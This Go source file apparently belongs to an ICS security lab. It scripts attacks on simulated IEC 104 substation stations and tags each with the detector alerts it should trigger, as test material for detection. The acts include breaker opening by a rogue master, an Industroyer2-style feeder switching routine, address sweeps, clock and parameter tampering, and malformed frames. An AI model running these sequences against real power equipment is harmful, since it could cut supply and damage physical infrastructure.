package script

import (
	"errors"
	"net"
	"time"

	"github.com/roje-ot/roje/cmd/roje-lab/iec104station"
)

// actsIEC104 are acts against the 104 stations of the substation.
var actsIEC104 = []Act{
	{Name: "iec104-rogue-master", Title: "a second master starts data transfer, reads the station out and opens its breaker", Actor: "rogue", Victims: []string{"rtu-1"},
		Expect: []string{"A01", "A05", "R13", "C01"}, Techniques: []string{"T1692.001", "T0848", "T0802"}, Run: iec104Act(1, func(m *iec104station.Session, s *Stage, a Act) error {
			if err := m.Interrogate(20); err != nil {
				return err
			}
			s.host(a.Actor).Sleep(2 * time.Second)
			return m.Do(iec104station.Command{Type: 46, IOA: cmdBreaker, Value: 1, Select: true})
		})},
	{Name: "iec104-ca-sweep", Title: "common addresses are interrogated one after the other", Actor: "rogue", Victims: []string{"rtu-2"},
		Expect: []string{"R08", "A01", "P14"}, Techniques: []string{"T0888", "T0848"}, Run: iec104Act(2, func(m *iec104station.Session, s *Stage, a Act) error {
			for ca := uint16(1); ca <= 30; ca++ {
				m.CA = ca
				if err := refused(m.Interrogate(20)); err != nil {
					return err
				}
				s.host(a.Actor).Sleep(100 * time.Millisecond)
			}
			return nil
		})},
	{Name: "iec104-ioa-sweep", Title: "object addresses are read one after the other", Actor: "rogue", Victims: []string{"rtu-2"},
		Expect: []string{"R09", "A01", "P14"}, Techniques: []string{"T0861", "T0848"}, Run: iec104Act(2, func(m *iec104station.Session, s *Stage, a Act) error {
			for ioa := uint32(990); ioa < 1040; ioa++ {
				if err := m.Read(ioa); err != nil {
					return err
				}
				s.host(a.Actor).Sleep(60 * time.Millisecond)
			}
			return nil
		})},
	{Name: "iec104-station-sweep", Title: "every station is tried with a test frame and a start, and left again", Actor: "rogue", Victims: []string{"rtu-1", "rtu-2", "rtu-3"},
		Expect: []string{"R07", "A01"}, Techniques: []string{"T0846"}, Run: stationSweep},
	{Name: "iec104-industroyer2", Title: "a list of objects is switched off and on after an interrogation, as Industroyer2 did", Actor: "rogue", Victims: []string{"rtu-3"},
		Expect: []string{"C05", "C03", "C06", "A01", "A05", "R13"}, Techniques: []string{"T1692.001", "T0806", "T0848"}, Run: industroyer2},
	{Name: "iec104-toggle", Title: "one output is switched on and off again and again", Actor: "rogue", Victims: []string{"rtu-2"},
		Expect: []string{"C04", "A01"}, Techniques: []string{"T0831", "T0848"}, Run: iec104Act(2, func(m *iec104station.Session, s *Stage, a Act) error {
			for i := range 10 {
				if err := m.Do(iec104station.Command{Type: 45, IOA: cmdProtection, Value: float64(i % 2)}); err != nil {
					return err
				}
				s.host(a.Actor).Sleep(400 * time.Millisecond)
			}
			return nil
		})},
	{Name: "iec104-on-off", Title: "a short session switches listed objects and leaves, as COSMICENERGY did", Actor: "rogue", Victims: []string{"rtu-3"},
		Expect: []string{"C07", "A01"}, Techniques: []string{"T1692.001", "T0848"}, Run: iec104Act(3, func(m *iec104station.Session, s *Stage, a Act) error {
			for i := uint32(1); i <= 3; i++ {
				if err := m.Do(iec104station.Command{Type: 45, IOA: cmdFeeders + i, Value: 0, Direct: true}); err != nil {
					return err
				}
			}
			return nil
		})},
	{Name: "iec104-broadcast", Title: "a command is sent to all stations at once", Actor: "rogue", Victims: []string{"rtu-2"},
		Expect: []string{"C14", "A01"}, Techniques: []string{"T1692.001"}, Run: iec104Act(0xffff, func(m *iec104station.Session, s *Stage, a Act) error {
			return m.Do(iec104station.Command{Type: 45, IOA: cmdProtection, Value: 0})
		})},
	{Name: "iec104-file-transfer", Title: "a file is read from a station and another one written to it", Actor: "rogue", Victims: []string{"rtu-1"},
		Expect: []string{"D05", "D06", "A01"}, Techniques: []string{"T0867", "T1693.002"}, Run: iec104Act(1, func(m *iec104station.Session, s *Stage, a Act) error {
			err := m.Directory()
			if err == nil {
				_, err = m.Fetch(disturbance, 1)
			}
			if err == nil {
				err = m.Store(disturbance+1, &iec104station.File{Name: 2, Sections: [][]byte{comtrade(900)}})
			}
			return err
		})},
	{Name: "iec104-clock-wrong", Title: "a station's clock is set three hours back", Actor: "rogue", Victims: []string{"rtu-1"},
		Expect: []string{"D08", "D09", "A01"}, Techniques: []string{"T0832"}, Run: iec104Act(1, func(m *iec104station.Session, s *Stage, a Act) error {
			return m.SetClock(s.host(a.Actor).Now().Add(-3 * time.Hour))
		})},
	{Name: "iec104-reset", Title: "a station's process is reset", Actor: "rogue", Victims: []string{"rtu-2"},
		Expect: []string{"D03", "A01", "D04"}, Techniques: []string{"T0816"}, Run: iec104Act(2, func(m *iec104station.Session, s *Stage, a Act) error {
			return m.Reset()
		})},
	{Name: "iec104-parameters", Title: "thresholds and parameters of measured values are changed and counters frozen", Actor: "rogue", Victims: []string{"rtu-1"},
		Expect: []string{"C16", "C17", "A01"}, Techniques: []string{"T0838", "T0836"}, Run: iec104Act(1, func(m *iec104station.Session, s *Stage, a Act) error {
			err := m.Ask(112, iec104station.Activation, iec104station.Object{IOA: voltage, Data: []byte{0, 0, 0x80, 0x3f, 1}}, iec104station.ActCon)
			if err == nil {
				err = m.Ask(110, iec104station.Activation, iec104station.Object{IOA: 2006, Data: []byte{0, 0x10, 2}}, iec104station.ActCon)
			}
			if err == nil {
				err = m.Ask(113, iec104station.Activation, iec104station.Object{IOA: voltage, Data: []byte{1}}, iec104station.ActCon)
			}
			if err == nil {
				err = m.Counters(0x45)
			}
			return err
		})},
	{Name: "iec104-setpoint", Title: "the dispatch centre's own master sends a set-point far outside what is usual", Actor: "scada-a", Victims: []string{"rtu-2"},
		Expect: []string{"C02"}, Techniques: []string{"T0836"}, Run: iec104Act(2, func(m *iec104station.Session, s *Stage, a Act) error {
			return m.Do(iec104station.Command{Type: 50, IOA: cmdSetpoint, Value: 950})
		})},
	{Name: "iec104-illegal", Title: "commands with causes that the standard forbids, types without meaning and monitoring types from a master", Actor: "rogue", Victims: []string{"rtu-1"},
		Expect: []string{"P08", "A01"}, Techniques: []string{"T1692.001"}, Malformed: true, Run: iec104Act(1, func(m *iec104station.Session, s *Stage, a Act) error {
			for _, u := range []*iec104station.ASDU{
				{Type: 45, Cause: iec104station.Spontaneous, Objects: []iec104station.Object{{IOA: cmdProtection, Data: []byte{1}}}},
				{Type: 46, Cause: iec104station.Interrogated, Objects: []iec104station.Object{{IOA: cmdBreaker, Data: []byte{2}}}},
				{Type: 1, Cause: iec104station.Spontaneous, Objects: []iec104station.Object{{IOA: protection, Data: []byte{1}}}},
				{Type: 13, Cause: iec104station.Spontaneous, Objects: []iec104station.Object{{IOA: voltage, Data: []byte{0, 0, 0, 0, 0}}}},
				{Type: 57, Cause: iec104station.Activation, Objects: []iec104station.Object{{IOA: 1, Data: []byte{1}}}},
			} {
				if err := m.Send(u); err != nil {
					return err
				}
				s.host(a.Actor).Sleep(500 * time.Millisecond)
			}
			return nil
		})},
	{Name: "iec104-sequence", Title: "frames with sequence numbers out of order, and data before it was started", Actor: "rogue", Victims: []string{"rtu-1"},
		Expect: []string{"P05", "P06", "A01"}, Techniques: []string{"T0830", "T0814"}, Malformed: true, Run: sequenceAnomaly},
}

// refused drops a negative confirmation: the answer that a scan waits for.
func refused(err error) error {
	if errors.Is(err, iec104station.ErrRefused) {
		return nil
	}
	return err
}

// iec104Act connects the actor to its first victim and starts data transfer.
func iec104Act(ca uint16, do func(*iec104station.Session, *Stage, Act) error) func(*Stage, Act) error {
	return func(s *Stage, a Act) error {
		conn, err := s.dial(a.Actor, "tcp", a.Victims[0], ":2404")
		if err != nil {
			return err
		}
		defer conn.Close()
		m := iec104station.NewSession(conn, s.host(a.Actor), s.Tally, ca, 0)
		if err := m.Start(); err != nil {
			return err
		}
		return do(m, s, a)
	}
}

func stationSweep(s *Stage, a Act) error {
	for _, victim := range a.Victims {
		conn, err := s.dial(a.Actor, "tcp", victim, ":2404")
		if err != nil {
			return err
		}
		m := iec104station.NewSession(conn, s.host(a.Actor), s.Tally, 1, 0)
		if err = m.Test(); err == nil {
			err = m.Run(s.host(a.Actor).Now().Add(300 * time.Millisecond))
		}
		if err == nil {
			err = m.Start()
		}
		conn.Close()
		if err != nil {
			return err
		}
		s.host(a.Actor).Sleep(200 * time.Millisecond)
	}
	return nil
}

// industroyer2 follows what was published of the malware: test frame, start, interrogation, then each object of a list
// selected and executed, off and on.
func industroyer2(s *Stage, a Act) error {
	conn, err := s.dial(a.Actor, "tcp", a.Victims[0], ":2404")
	if err != nil {
		return err
	}
	defer conn.Close()
	h := s.host(a.Actor)
	m := iec104station.NewSession(conn, h, s.Tally, 3, 0)
	if err := m.Test(); err != nil {
		return err
	}
	if err := m.Run(h.Now().Add(500 * time.Millisecond)); err != nil {
		return err
	}
	if err := m.Start(); err != nil {
		return err
	}
	if err := m.Interrogate(20); err != nil {
		return err
	}
	for _, v := range []float64{0, 1} {
		for i := uint32(1); i <= 16; i++ {
			if err := m.Do(iec104station.Command{Type: 45, IOA: cmdFeeders + i, Value: v, Select: true, Direct: true}); err != nil {
				return err
			}
			h.Sleep(100 * time.Millisecond)
		}
	}
	return nil
}

// sequenceAnomaly sends an I frame before STARTDT, one with a number from the future and one that acknowledges what
// was never sent; each on its own connection, as a station hangs up.
func sequenceAnomaly(s *Stage, a Act) error {
	interrogation := []byte{100, 1, 6, 0, 1, 0, 0, 0, 0, 20}
	frame := func(ns, nr uint16) []byte {
		return append([]byte{0x68, 14, byte(ns << 1), byte(ns >> 7), byte(nr << 1), byte(nr >> 7)}, interrogation...)
	}
	start := []byte{0x68, 4, 0x07, 0, 0, 0}
	for _, b := range [][][]byte{{frame(0, 0)}, {start, frame(5, 0)}, {start, frame(0, 900)}} {
		conn, err := s.dial(a.Actor, "tcp", a.Victims[0], ":2404")
		if err != nil {
			return err
		}
		for _, f := range b {
			if err := send(conn, f); err != nil {
				return err
			}
			s.host(a.Actor).Sleep(300 * time.Millisecond)
		}
		conn.Close()
		s.host(a.Actor).Sleep(300 * time.Millisecond)
	}
	return nil
}

func send(conn net.Conn, b []byte) error {
	_, err := conn.Write(b)
	return err
}
